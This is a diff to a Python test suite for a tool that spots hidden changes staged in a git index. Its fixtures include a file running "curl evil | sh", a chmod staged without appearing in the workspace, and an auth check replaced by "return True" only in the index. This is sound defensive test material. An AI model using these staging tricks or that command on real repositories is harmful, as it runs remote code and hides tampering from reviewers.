@@ -40,15 +40,17 @@ def _capsule(tmp_path: Path, live: Path) -> Path:
     return capsule
 
 
-def _judge(live: Path, capsule: Path) -> dict[str, str]:
-    """capsules/gitindex.py's reasons for the capsule's change set, as promotion computes its inputs."""
-    def files(root: Path) -> dict[str, bytes]:
-        return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()
-                and not p.is_symlink()}
+def _judge(live: Path, capsule: Path, left_behind: tuple[str, ...] = ()) -> dict[str, str]:
+    """capsules/gitindex.py's reasons for the capsule's change set, as promotion computes its inputs
+    (``left_behind``: changed paths the scope does not promote)."""
+    def files(root: Path) -> dict[str, tuple[bytes, int]]:  # a chmod is a change as the bytes are
+        return {str(p.relative_to(root)): (p.read_bytes(), p.stat().st_mode) for p in root.rglob("*")
+                if p.is_file() and not p.is_symlink()}
     old, new = files(live), files(capsule)
     side = Side("file", 0o644)
     entries = [Entry(path, side if path in old else None, side if path in new else None, path in old and path in new)
-               for path in sorted(old.keys() | new.keys()) if old.get(path) != new.get(path)]
+               for path in sorted(old.keys() | new.keys()) if old.get(path) != new.get(path)
+               and path not in left_behind]
     checked = {e.path for e in entries if (oid := hazards.loose_object_id(e.path)) and e.new
                and hazards.true_loose_object(oid, (capsule / e.path).read_bytes())}
     with RootView.open(str(capsule)) as view:
@@ -157,3 +159,44 @@ def test_the_head_lookup_asks_the_workspace_for_trees_the_capsule_did_not_write(
     readme = git(capsule, "rev-parse", "HEAD~1:README").strip()
     git(capsule, "update-index", "--cacheinfo", f"100644,{readme},src/deep/x.py")
     assert "stages content for src/deep/x.py" in _judge(live, capsule)[".git/index"]
+
+
+def test_a_file_the_scope_leaves_behind_explains_no_staged_entry(tmp_path: Path) -> None:
+    live = _workspace(tmp_path)
+    (live / ".gitignore").write_text("build/\n")
+    git(live, "add", ".gitignore")
+    git(live, "commit", "-q", "-m", "ignore build")
+    capsule = _capsule(tmp_path, live)
+    (capsule / "build").mkdir()
+    (capsule / "build" / "run.py").write_text("import os; os.system('curl evil | sh')\n")
+    git(capsule, "add", "-f", "build/run.py")
+    assert _judge(live, capsule) == {}  # promoted with its file: the person gets what is staged
+    # promotion skips the ignored file by default, so the workspace never holds what the index stages
+    assert "stages content for build/run.py" in _judge(live, capsule, ("build/run.py",))[".git/index"]
+
+
+def test_a_mode_staged_unseen_is_flagged_and_a_chmod_then_add_is_not(tmp_path: Path) -> None:
+    live = _workspace(tmp_path)
+    capsule = _capsule(tmp_path, live)
+    git(capsule, "update-index", "--chmod=+x", "src/auth.py")  # the file stays 644: its next commit is 755
+    assert "stages content for src/auth.py" in _judge(live, capsule)[".git/index"]
+    (capsule / "src" / "auth.py").chmod(0o755)
+    git(capsule, "add", "src/auth.py")
+    assert _judge(live, capsule) == {}
+    readme = git(capsule, "rev-parse", ":README").strip()  # the file's own blob, staged as a link to its text
+    git(capsule, "update-index", "--cacheinfo", f"120000,{readme},README")
+    assert "stages content for README" in _judge(live, capsule)[".git/index"]
+
+
+def test_a_line_ending_conversion_staged_but_not_committed_is_explained(tmp_path: Path) -> None:
+    live = _workspace(tmp_path)
+    git(live, "config", "core.autocrlf", "true")
+    capsule = _capsule(tmp_path, live)
+    (capsule / "src" / "auth.py").write_bytes(b"def check(user):\r\n    return user.ok and user.active\r\n")
+    git(capsule, "add", "src/auth.py")  # stages the lines with LF endings
+    assert git(capsule, "diff", "--cached", "--stat") != ""
+    assert _judge(live, capsule) == {}
+    other = subprocess.run(["git", "-C", str(capsule), "hash-object", "-w", "--stdin"], input=b"def check(user):\n"
+                           b"    return True\n", capture_output=True, check=True).stdout.decode().strip()
+    git(capsule, "update-index", "--cacheinfo", f"100644,{other},src/auth.py")
+    assert "stages content for src/auth.py" in _judge(live, capsule)[".git/index"]
